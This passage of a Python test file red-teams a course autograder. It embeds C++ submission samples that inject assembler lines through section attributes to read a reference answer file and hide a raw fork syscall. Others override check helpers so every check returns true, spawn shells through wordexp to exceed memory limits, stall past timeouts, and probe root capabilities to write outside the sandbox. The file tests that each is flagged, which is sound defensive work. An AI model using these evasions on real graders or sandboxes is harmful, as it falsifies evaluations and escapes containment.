    and CAP_SYS_ADMIN, mounting the host's disk (solutions/, the trusted build, the course secret
    in points.toml) is one step further. Expected: student code never runs as root: without a
    working user switch the grader stops (or runs it in a user namespace, bwrap --unshare-user).
    Sandbox.run_cmd now passes --cap-drop ALL when the process stays root (helper atk2; CapEff
    0: the umount, the remount and the write fail); the process is still uid 0, so this stays an
    expected failure until the fallback itself is gone."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-root-"))
        cls.build = (GRADE_WORK / "worker-1" / "build").resolve()
        cls.mark = cls.build / "written-by-a-student"
        put(cls.tmp / "subs" / "rootcaps", "chapters/03_regression/ex8_brute_force_seconds.cpp",
            ROOT_PROBE.replace("@ROOT@", str(ROOT)).replace("@BUILD@", str(cls.build)))
        cls.out = cls.tmp / "out"
        if cls.build.is_dir():   # a worker that has never been prepared is made by the run below (0755)
            os.chmod(cls.build, 0o750)
        try:
            cls.proc = grade_ch3(cls.out, cls.tmp / "subs" / "rootcaps")
        finally:
            if cls.build.is_dir():
                os.chmod(cls.build, 0o755)
        cls.written = cls.mark.exists()
        cls.mark.unlink(missing_ok=True)

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def test_student_code_never_runs_as_root(self):
        # 2026-12-04: "PROBE Uid: 0 0 0 0; CapEff: 000001fffeffffff; ... umount=0 ... remount=0", and
        # the file was written into the build folder (by hand, ./workbook grade with worker-1/build at
        # 0750, the listing after the umount showed records.py, worker.py, ...; under this test's
        # environment it comes out empty, so it is not asserted)
        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
        out = json.loads((self.out / "rootcaps" / "results.json").read_text())
        probe = next(t["output"] for t in out["tests"] if "PROBE" in t["output"])
        self.assertNotRegex(probe, r"Uid:\s+0\s")
        self.assertFalse(self.written, "the test process wrote into the worker's build folder")


# ---- round 3 (helper atk3) ------------------------------------------------------------------------
# Assembler lines in a section attribute's name: GCC writes the name into its ".section NAME,flags"
# line as it is, so a newline in it starts assembler lines of the student's choosing, and a '#' ends
# the line GCC meant (its flags become a comment). No asm keyword, no token pasting, no string literal
# containing "incbin" (the directive is spelled in two literals): the source scan sees nothing.
SECTION_INCBIN = r'''#include <cstring>
#include "sigmoid.hpp"
// The section attribute's name goes into the assembler's .section line as it is: a newline in it
// starts new assembler lines. Here it reads a file no #include names (the include check never sees
// it) into the object, with no "asm" keyword, no token pasting and no string literal saying incbin.
#define WB_IN "@FILE@"
__attribute__((section(".rodata.wbx,\"a\",@progbits\nwb_blob:\n.inc" "bin \"" WB_IN "\"\n.byte 0\n.section .rodata.wby,\"a\",@progbits\n#"), used))
static const char wb_marker[1] = {0};
extern "C" const char wb_blob[];
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) {
    // what was read in: its length, as the value (a public check prints it in its failure message)
    return z * 0.0 + static_cast<double>(std::strlen(wb_blob));
}
'''

# A raw fork through a syscall instruction hidden inside a movabs's immediate (a short jump lands on
# it): objdump's linear disassembly shows "movabs $0x9090909090c3050f,%rax", no syscall.
SECTION_SYSCALL = r'''#include "sigmoid.hpp"
// A raw system call the object scan does not see: the section attribute's name carries assembler
// lines (no asm keyword in the source); the syscall instruction's bytes sit inside a movabs's
// immediate, and a short jump lands on them, so a linear disassembly shows a movabs.
__attribute__((section(".text.wbs,\"ax\",@progbits\n"
                       "wb_sys:\n"
                       "mov %rdi, %rax\n"
                       "mov %rsi, %rdi\n"
                       "jmp .+4\n"
                       ".byte 0x48, 0xb8, 0x0f, 0x05, 0xc3, 0x90, 0x90, 0x90, 0x90, 0x90\n"
                       ".section .data.wbz,\"aw\",@progbits\n#"), used))
static int wb_anchor = 0;
extern "C" long wb_sys(long number, long arg);
namespace {
long forked() {   // fork; the child leaves at once; the parent returns the child's process id
    static long pid = 0;
    if (pid == 0) {
        pid = wb_sys(57, 0);
        if (pid == 0) wb_sys(60, 0);
    }
    return pid;
}
}  // namespace
// the child's pid as the value: 1.1's failure messages print it ("got N")
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0 + static_cast<double>(forked()); }
'''

# The WEAK attack again, each helper in a COMDAT group of its own: the object scan treats COMDAT
# definitions as inline functions and skips them, whatever their name or binding.
SECTION_COMDAT_WEAK = r'''#include "sigmoid.hpp"
#include <string>
#include <vector>
// The weak copies of the check helpers (test_grade_attacks.py WEAK), each put in a COMDAT group by
// the section attribute's name (assembler lines in it): the object scan skips COMDAT definitions as
// inline functions, whatever their name.
#define WB_GROUP(g) section(".text." g ",\"axG\",@progbits," g ",comdat\n#")
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0; }
namespace wb::test {
struct Tolerance;   // declared only (workbook/testing.hpp would pull in Boost.Test)
struct Mistake;
__attribute__((weak, WB_GROUP("wbc1"))) bool check_close(const std::string&, const xt::xarray<double>&,
                                       const xt::xarray<double>&, const Tolerance&, const std::string&,
                                       const std::vector<Mistake>&, const char*, int) { return true; }
__attribute__((weak, WB_GROUP("wbc2"))) bool check_close(const std::string&, double, double, const Tolerance&,
                                       const std::vector<Mistake>&, const char*, int) { return true; }
__attribute__((weak, WB_GROUP("wbc3"))) bool check_shape(const std::string&, const xt::xarray<double>&,
                                       const std::vector<std::size_t>&, const std::string&, const char*, int) { return true; }
__attribute__((weak, WB_GROUP("wbc4"))) bool check_gradient(const std::string&, const std::string&,
                                       const xt::xarray<double>&, const xt::xarray<double>&, double,
                                       const std::vector<Mistake>&, const char*, int) { return true; }
}  // namespace wb::test
'''

# The whole-suite run ends by itself (no verdict) just before suite_timeout; every case is then rerun
# alone and each rerun sleeps with SIGALRM blocked (Boost's per-case timeout never fires) until the
# grader's per-case limit (test_timeout + 10 s). submission_budget is only checked between suites.
STALL_RERUNS = r'''#include <csignal>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <string>
#include <thread>
#include "sigmoid.hpp"
namespace {
// A whole-suite run ends by itself just before the suite limit, with no verdict: every case is then
// rerun on its own, and each of those reruns sleeps (SIGALRM blocked: Boost's per-case timeout never
// fires) until the grader's per-case wall limit. The submission budget is only checked between suites.
void stall() {
    sigset_t s;
    sigemptyset(&s);
    sigaddset(&s, SIGALRM);
    pthread_sigmask(SIG_BLOCK, &s, nullptr);
    std::ifstream f("/proc/self/cmdline");
    const std::string all((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
    const auto pos = all.find("--run_test=");
    const std::string arg = pos == std::string::npos ? "" : all.substr(pos, all.find('\0', pos) - pos);
    if (arg.find('/') == std::string::npos) {
        std::this_thread::sleep_for(std::chrono::seconds(@SUITE_SLEEP@));
        std::_Exit(3);
    }
    for (;;) std::this_thread::sleep_for(std::chrono::seconds(1));
}
}  // namespace
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { stall(); return z; }
'''


# wordexp(3) with a command substitution: the C library forks a shell, so the test process starts any
# command without a name the integrity scan knows (fork, system, popen, exec... are banned by name).
# Each child has the same rlimits, so memory_mb (RLIMIT_AS, per process) multiplies: here five
# children hold 1 GB each (dd's buffer); the value returned is the peak total resident memory (MB) of the
# processes in the sandbox, which 1.1's failure message prints ("got N").
WORDEXP_MEMORY = r'''#include <wordexp.h>
#include <csignal>
#include <cstdlib>
#include <string>
#include "sigmoid.hpp"
// wordexp(3) runs the shell for a command substitution: a process (and any command) without any
// name the integrity scan knows. Five children (dd with a 1000 MB buffer, blocked on a pipe nobody reads) each hold 1 GB for 25 s while the first process
// measures the sum of the resident memory of every process it can see.
namespace {
double memory_mb() {
    static double mb = -1;
    if (mb >= 0) return mb;
    const char* script =
        "$(for i in 1 2 3 4 5; do (dd if=/dev/zero bs=1000M count=1 2>/dev/null | sleep 25 >/dev/null) & done; "
        "m=0; for k in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22; do sleep 1; t=0; "
        "for p in /proc/[0-9]*; do r=$(grep VmRSS $p/status 2>/dev/null | tr -dc 0-9); t=$((t + ${r:-0})); done; "
        "[ $t -gt $m ] && m=$t; done; echo $((m / 1024)))";
    sigset_t s;   // Boost's per-case timeout (SIGALRM) would stop the case before the value is recorded
    sigemptyset(&s);
    sigaddset(&s, SIGALRM);
    pthread_sigmask(SIG_BLOCK, &s, nullptr);
    wordexp_t w;
    mb = 0;
    if (wordexp(script, &w, 0) == 0) {
        if (w.we_wordc > 0) mb = std::atof(w.we_wordv[0]);
        wordfree(&w);
    }
    return mb;
}
}  // namespace
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0 + memory_mb(); }
'''


# The weak-override attack with plain C++ (no attribute, no assembler): inline definitions of the
# check helpers with their exact signatures are COMDAT (as the headers' inline code is), so the
# scan that lets inline code pass must still flag a name the test program defines as a function of
# its own (integrity.ReferenceNames.strong).
INLINE_HELPERS = r'''#include <string>
#include <vector>
#include "sigmoid.hpp"
namespace wb::test {
struct Tolerance;   // declared only (workbook/testing.hpp would pull in Boost.Test)
struct Mistake;
inline bool check_close(const std::string&, double, double, const Tolerance&, const std::vector<Mistake>&,
                        const char*, int) { return true; }
}  // namespace wb::test
namespace {
// used, so the inline definition is emitted into this object
bool (*volatile keep)(const std::string&, double, double, const wb::test::Tolerance&,
                      const std::vector<wb::test::Mistake>&, const char*, int) = &wb::test::check_close;
}  // namespace
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * (keep ? 0.0 : 0.0); }
'''


class Round3(unittest.TestCase):
    """helper atk3: one grading run of chapter 1 (-j 1) over the round-3 attacks, each measured
    working on 2026-12-05 (branch atk3) and closed the same day: attributes and pragmas that place
    code or data or replace symbols are refused from the source (integrity._check_attributes: a
    section attribute's name carried assembler lines), inline definitions of the test program's own
    functions are flagged, wordexp and the other process starters are banned names, and a suite's
    reruns end with its second limit or the submission's budget."""
    SUITE_TIMEOUT = 25
    BUDGET = 60

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-r3-"))
        s = cls.tmp / "subs"
        put(s / "sec_incbin", "chapters/01_sigmoid/ex1_sigmoid.cpp",
            SECTION_INCBIN.replace("@FILE@", str(ROOT / "tests" / "01_sigmoid" / "reference.hpp")))
        put(s / "sec_syscall", "chapters/01_sigmoid/ex1_sigmoid.cpp", SECTION_SYSCALL)
        put(s / "sec_weak", "chapters/01_sigmoid/ex1_sigmoid.cpp", SECTION_COMDAT_WEAK)
        put(s / "wordexp", "chapters/01_sigmoid/ex1_sigmoid.cpp", WORDEXP_MEMORY)
        put(s / "inline_helpers", "chapters/01_sigmoid/ex1_sigmoid.cpp", INLINE_HELPERS)
        put(s / "stall", "chapters/01_sigmoid/ex1_sigmoid.cpp",
            STALL_RERUNS.replace("@SUITE_SLEEP@", str(cls.SUITE_TIMEOUT - 7)))
        points = cls.tmp / "points.toml"
        text = (ROOT / "grading" / "points.toml").read_text()
        text = text.replace("suite_timeout = 60 ", f"suite_timeout = {cls.SUITE_TIMEOUT} ")
        text = text.replace("submission_budget = 600 ", f"submission_budget = {cls.BUDGET} ")
        points.write_text(text)
        cls.subs = sorted(p for p in s.iterdir())
        cls.out = cls.tmp / "out"
        cls.proc = workbook("grade", "-j", "1", "-q", "--chapters", "1", "-o", str(cls.out), "--work",
                            str(GRADE_WORK), "--points", str(points), *map(str, cls.subs))

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def report(self, name: str) -> str:
        return (self.out / name / "report.txt").read_text()

    def results(self, name: str) -> dict:
        return json.loads((self.out / name / "results.json").read_text())

    def test_the_run_completes(self):
        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])

    def test_incbin_through_a_section_name_is_flagged(self):
        # was not flagged: 1.1's failure message showed "got 1655", the length of
        # tests/01_sigmoid/reference.hpp read into the object (a file the include check refuses)
        self.assertIn("INTEGRITY", self.report("sec_incbin"))

    def test_a_hidden_syscall_instruction_is_flagged(self):
        # was not flagged: 1.1's messages said "got 3", the pid of the child the raw fork made
        self.assertIn("INTEGRITY", self.report("sec_syscall"))

    def test_weak_check_helpers_in_comdat_groups_are_flagged(self):
        # was not flagged (the values still earned nothing: records.py)
        self.assertIn("INTEGRITY", self.report("sec_weak"))

    def test_inline_definitions_of_the_check_helpers_are_flagged(self):
        report = self.report("inline_helpers")
        self.assertIn("INTEGRITY", report)
        self.assertIn("inline", report)
        self.assertEqual(self.results("inline_helpers")["score"], 0)

    def test_processes_started_through_wordexp_are_flagged_or_held_to_the_memory_limit(self):
        # was not flagged ("uses wordexp" not even listed for review), and 1.1's messages said
        # "got 4564": the test process and its children held 4.5 GB together, memory_mb is 4096
        import re
        report = self.report("wordexp")
        if "INTEGRITY" in report:
            return
        got = [float(x) for t in self.results("wordexp")["tests"] for x in re.findall(r"got ([0-9.]+)", t["output"])]
        self.assertTrue(got, report)
        self.assertLessEqual(max(got), 4096, report)

    def test_reruns_stay_within_the_submission_budget(self):
        # the budget, plus at most one suite that started before it ran out
        import re
        m = re.search(r"tests ([0-9.]+) s\)", self.report("stall"))
        self.assertIsNotNone(m)
        self.assertLessEqual(float(m.group(1)), self.BUDGET + self.SUITE_TIMEOUT + 15, self.report("stall"))


if __name__ == "__main__":
    unittest.main()
